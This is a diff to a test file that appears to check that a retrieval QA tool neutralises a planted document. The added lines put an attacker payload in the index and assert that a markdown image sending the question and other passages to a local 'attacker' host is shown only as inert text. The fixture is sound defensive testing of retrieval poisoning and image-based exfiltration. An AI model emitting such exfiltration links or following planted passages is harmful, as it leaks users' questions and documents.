@@ -107,7 +107,8 @@ def planted_index(attacker, tmp_path, embedder):
     docs = tmp_path / "docs"
     docs.mkdir()
     shutil.copy(SAMPLE_DOCS / "office-faq.txt", docs)
-    (docs / "travel-expenses.md").write_text(_planted(attacker[0]))
+    # Plain text: the Markdown parser would drop the image from the passage, and the passage is rendered too.
+    (docs / "travel-expenses.txt").write_text(_planted(attacker[0]))
     settings = Settings(data_dir=tmp_path / "index")
     report = ingest([docs], settings, embedder=embedder)
     assert report.added == 2 and not report.failed
@@ -141,3 +142,4 @@ def test_a_planted_image_in_an_answer_loads_nothing(attacker, scripted_llm, plan
     assert f"127.0.0.1:{port}" not in " ".join(re.findall(r"<(?:img|a)\b[^>]*>", html)), html
     # The reader still sees what the model tried, inertly: the image as a note naming its host, the URLs as code.
     assert "image: status" in text and f"127.0.0.1:{port}/click?d=SECRET" in text, text
+    assert f"![status](http://127.0.0.1:{port}/leak?d=QUESTION_AND_OTHER_PASSAGES)" in text, "the passage, as text"
